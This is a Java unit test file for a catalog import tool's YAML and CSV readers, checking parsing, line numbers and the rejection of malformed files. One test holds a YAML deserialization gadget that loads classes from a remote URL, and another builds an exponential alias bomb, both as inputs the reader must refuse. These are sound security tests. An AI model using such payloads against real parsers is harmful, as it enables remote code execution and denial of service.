package io.ownership.web.catalog.imports;

import java.util.List;
import java.util.Map;

import io.ownership.core.catalog.imports.BackstageDocument;
import io.ownership.core.catalog.imports.CsvTable;
import io.ownership.core.catalog.imports.ImportBatch;
import io.ownership.core.catalog.imports.MalformedFileException;
import io.ownership.core.catalog.imports.Outcome;
import io.ownership.core.catalog.imports.PlanItem;
import org.junit.jupiter.api.Test;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatExceptionOfType;

/**
 * Reading the files: YAML documents with their lines and nothing but plain values, CSV as
 * RFC 4180 has it, and files that cannot be read named with their line.
 */
class ImportFilesTests {

	private static UploadedFile file(String name, String text) {
		return new UploadedFile(name, ImportSamples.bytes(text));
	}

	@Test
	void readsEveryYamlDocumentWithTheLineItStartsOn() {
		List<BackstageDocument> documents = new BackstageYamlReader().read(file("catalog-info.yaml", """
				# a comment
				kind: Group
				metadata:
				  name: a
				---
				kind: User
				metadata: {name: b}
				---
				"""));
		assertThat(documents).extracting(BackstageDocument::line).containsExactly(2, 6, 9);
		assertThat(documents.get(0).content()).isEqualTo(Map.of("kind", "Group", "metadata", Map.of("name", "a")));
		assertThat(documents.get(2).content()).isNull();
	}

	@Test
	void rejectsAFileThatIsNotYamlNamingFileAndLine() {
		assertThatExceptionOfType(MalformedFileException.class)
			.isThrownBy(
					() -> new BackstageYamlReader().read(file("broken.yaml", "kind: Group\nmetadata:\n  name: [a\n")))
			.satisfies((ex) -> {
				assertThat(ex.file()).isEqualTo("broken.yaml");
				assertThat(ex.line()).isEqualTo(4);
				assertThat(ex.getMessage()).startsWith("broken.yaml, line 4: not valid YAML");
			});
		assertThatExceptionOfType(MalformedFileException.class)
			.isThrownBy(() -> new BackstageYamlReader()
				.read(new UploadedFile("image.png", new byte[] { 'a', '\n', 'b', '\n', (byte) 0xff, (byte) 0xfe })))
			.withMessage("image.png, line 3: not UTF-8 text");
	}

	@Test
	void refusesTagsThatNameJavaTypes() {
		assertThatExceptionOfType(MalformedFileException.class)
			.isThrownBy(() -> new BackstageYamlReader().read(file("evil.yaml",
					"""
							kind: Group
							metadata: !!javax.script.ScriptEngineManager [!!java.net.URLClassLoader [[!!java.net.URL ["http://x"]]]]
							""")))
			.withMessageStartingWith("evil.yaml, line 2: not valid YAML: Global tag is not allowed");
	}

	@Test
	void refusesAliasBombs() {
		StringBuilder yaml = new StringBuilder("a: &a [x, x, x, x, x, x, x, x, x]\n");
		for (char c = 'b'; c <= 'z'; c++) {
			char previous = (char) (c - 1);
			yaml.append(c)
				.append(": &")
				.append(c)
				.append(" [*")
				.append(previous)
				.append(", *")
				.append(previous)
				.append(", *")
				.append(previous)
				.append("]\n");
		}
		assertThatExceptionOfType(MalformedFileException.class)
			.isThrownBy(() -> new BackstageYamlReader().read(file("bomb.yaml", yaml.toString())))
			.withMessageContaining("bomb.yaml, line");
	}

	@Test
	void readsQuotedCsvValuesAndKeepsTheLineOfEachRow() {
		CsvTable table = new CsvReader()
			.read(file("catalog.csv", "a,b,c\r\n\"one, two\",\"say \"\"hi\"\"\",\"multi\nline\"\nx,,z\n\n"));
		assertThat(table.rows()).extracting(CsvTable.Row::line).containsExactly(1, 2, 4);
		assertThat(table.rows().get(1).values()).containsExactly("one, two", "say \"hi\"", "multi\nline");
		assertThat(table.rows().get(2).values()).containsExactly("x", "", "z");
	}

	@Test
	void rejectsBrokenCsvNamingFileAndLine() {
		assertThatExceptionOfType(MalformedFileException.class)
			.isThrownBy(() -> new CsvReader().read(file("bad.csv", "a,b\nx,\"open\n")))
			.withMessage("bad.csv, line 2: a quoted value is not closed");
		assertThatExceptionOfType(MalformedFileException.class)
			.isThrownBy(() -> new CsvReader().read(file("bad.csv", "a,b\nx,y\"z\n")))
			.withMessage("bad.csv, line 2: a quote inside a value that does not start with a quote");
	}

	@Test
	void readsTheSampleFilesWithoutRejections() {
		ImportBatch yaml = ImportFiles.read(ImportFormat.BACKSTAGE,
				List.of(file("catalog-info.yaml", ImportSamples.catalogInfo(""))));
		assertThat(yaml.teams()).hasSize(3);
		assertThat(yaml.people()).hasSize(4);
		assertThat(yaml.products()).hasSize(3);
		assertThat(yaml.assets()).hasSize(5);
		assertThat(yaml.notes()).extracting(PlanItem::outcome).containsOnly(Outcome.SKIP);
		assertThat(yaml.teams().get(0).ref().line()).isEqualTo(3);
		ImportBatch csv = ImportFiles.read(ImportFormat.CSV, List.of(file("catalog.csv", ImportSamples.csv(""))));
		assertThat(csv.products()).hasSize(2);
		assertThat(csv.assets()).hasSize(4);
		assertThat(csv.notes()).isEmpty();
	}

}
